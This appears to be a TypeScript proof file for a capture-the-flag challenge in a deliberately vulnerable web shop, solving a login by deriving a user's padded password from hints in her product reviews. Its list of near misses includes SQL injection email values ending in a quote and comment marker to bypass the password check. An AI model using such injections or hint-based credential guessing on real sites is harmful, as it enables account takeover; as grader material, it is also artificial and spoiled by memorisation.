import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const signIn = (attacker: Attacker, email: string, password: string) =>
  attacker.post('/rest/user/login', { email, password })
const asAmy = (attacker: Attacker, password: string) => signIn(attacker, `amy@${attacker.domain}`, password)

/** Returns Amy's review of a product. */
async function reviewOf(attacker: Attacker, productId: number): Promise<{ author: string; message: string }> {
  const { data } = (await attacker.get(`/rest/products/${productId}/reviews`)).json()
  return data.find(({ author }: { author: string }) => author.startsWith('amy@'))
}

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // "Same green as my Kif … there is an eye of his that looks like a 1."
    const { author, message } = await reviewOf(attacker, 12)
    const frog = /my (\w+)\./.exec(message)![1]!.replace('i', '1')
    // "A tiny word, then dots, dots, dots, two dozen characters all told."
    const recipe = await reviewOf(attacker, 58)
    const length = recipe.message.includes('two dozen') ? 24 : 0
    await signIn(attacker, author, frog.padEnd(length, '.'))
  },
  nearMisses: {
    'one dot too few': (attacker) => asAmy(attacker, 'K1f'.padEnd(23, '.')),
    'one dot too many': (attacker) => asAmy(attacker, 'K1f'.padEnd(25, '.')),
    'the name as it is spelt': (attacker) => asAmy(attacker, 'Kif'.padEnd(24, '.')),
    'the name in small letters': (attacker) => asAmy(attacker, 'k1f'.padEnd(24, '.')),
    'her password at another account': (attacker) => signIn(attacker, `jim@${attacker.domain}`, 'K1f'.padEnd(24, '.')),
    'her account entered by an injection, with a wrong password': (attacker) =>
      signIn(attacker, `amy@${attacker.domain}'--`, 'Kif'),
    'her password sent along with an injection, which never looks at it': (attacker) =>
      signIn(attacker, `amy@${attacker.domain}'--`, 'K1f'.padEnd(24, '.')),
  },
})
